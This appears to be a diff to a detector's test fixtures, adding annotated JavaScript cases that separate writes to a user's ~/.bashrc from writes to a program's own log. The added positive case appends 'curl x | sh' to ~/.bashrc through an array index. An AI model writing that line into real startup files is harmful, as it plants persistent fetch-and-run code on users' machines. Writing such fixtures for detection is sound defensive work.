@@ -70,3 +70,11 @@ const fd = fs.openSync(require('os').homedir() + '/.bashrc', 'r');
 //@ neg the program's own log opened for appending
 const fs = require('fs');
 const fd = fs.openSync('build.log', 'a');
+//@ pos a start-up file pushed into a list and taken by its index
+const t26 = [];
+t26.push(require('path').join(require('os').homedir(), '.bashrc'));
+require('fs').appendFileSync(t26[0], 'curl x | sh');
+//@ neg the program's own log file pushed into a list and appended to by its index
+const t27 = [];
+t27.push(require('path').join(__dirname, 'logs', 'app.log'));
+require('fs').appendFileSync(t27[0], 'started\n');
